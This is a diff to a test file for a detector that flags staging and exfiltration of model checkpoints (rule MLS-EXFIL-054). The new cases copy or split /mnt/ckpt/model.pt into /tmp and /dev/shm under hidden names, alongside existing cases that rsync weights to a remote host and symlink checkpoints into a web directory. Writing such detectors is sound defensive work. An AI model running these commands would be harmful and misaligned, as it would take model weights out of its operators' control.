@@ -24,6 +24,10 @@ describe('attrs.exec.copies', () => {
       ['ln -s /mnt/ckpt /srv/www/static/ckpt', ['/mnt/ckpt -> /srv/www/static/ckpt']],
       ['dd if=/mnt/ckpt/model.pt of=/dev/shm/x bs=1M', ['/mnt/ckpt/model.pt -> /dev/shm/x']],
       ['cat /mnt/ckpt/model.pt > /var/tmp/.m', ['/mnt/ckpt/model.pt -> /var/tmp/.m']],
+      // pv's option values are no sources; head and tail by bytes cut a part of the file.
+      ['pv -L 1m /mnt/ckpt/model.pt > /tmp/m', ['/mnt/ckpt/model.pt -> /tmp/m']],
+      ['head -c 4G /mnt/ckpt/model.pt > /tmp/part1', ['/mnt/ckpt/model.pt -> /tmp/part1']],
+      ['tail --bytes=+4294967297 /mnt/ckpt/model.pt > /dev/shm/.p2', ['/mnt/ckpt/model.pt -> /dev/shm/.p2']],
       ['rsync -a /mnt/ckpt/ /root/.c/', ['/mnt/ckpt -> /root/.c']],
       // Python: copies, moves, and weights loaded then saved again (through a name, an index, a method).
       [`python3 -c "import shutil; shutil.copy('/mnt/ckpt/m.pt', '/dev/shm/m')"`, ['/mnt/ckpt/m.pt -> /dev/shm/m']],
@@ -43,6 +47,9 @@ describe('attrs.exec.copies', () => {
       'curl -o /tmp/x.pt https://h/x.pt',
       'rsync -a /mnt/ckpt/llama/ u@203.0.113.9:/x/',
       'cat /mnt/ckpt/model.pt 2> /tmp/err',
+      // head and tail by lines take an excerpt to look at.
+      'tail -n 100 /mnt/ckpt/train.log > /tmp/log',
+      'head /mnt/ckpt/config.json > /tmp/c',
       'cp /mnt/ckpt/model.pt /dev/null',
       `python3 -c "import torch; m=build(); torch.save(m.state_dict(), '/tmp/x.pt')"`,
       // safetensors' load takes bytes, not a path.
@@ -61,6 +68,7 @@ describe('MLS-EXFIL-054: checkpoint files staged in a scratch, shared-memory, ho
       'install -m 0644 /models/llama/model.safetensors /var/tmp/m',
       'dd if=/mnt/ckpt/model.pt of=/dev/shm/x bs=1M',
       'cat /mnt/ckpt/model.pt > /var/tmp/.m',
+      'head -c 4G /mnt/ckpt/model.pt > /tmp/.part1',
       'rsync -a /mnt/ckpt/ /root/.c/',
       'ln -s /mnt/ckpt /srv/www/static/ckpt',
       'mv /mnt/ckpt/a/step_1 /mnt/ckpt/a/.old',
@@ -84,6 +92,7 @@ describe('MLS-EXFIL-054: checkpoint files staged in a scratch, shared-memory, ho
       'cp /app/config.json /tmp/; ls /mnt/ckpt',
       'aws s3 cp s3://b/x.pt /tmp/x.pt',
       'cat /mnt/ckpt/model.pt 2> /tmp/err',
+      'tail -n 100 /mnt/ckpt/train.log > /tmp/log',
       `python3 -c "import torch; sd=torch.load('/mnt/ckpt/model.pt'); sd['w'] += 1; torch.save(sd, '/mnt/ckpt/model.pt')"`,
       `python3 -c "import torch; m=build(); torch.save(m.state_dict(), '/tmp/x.pt')"`,
     ]);
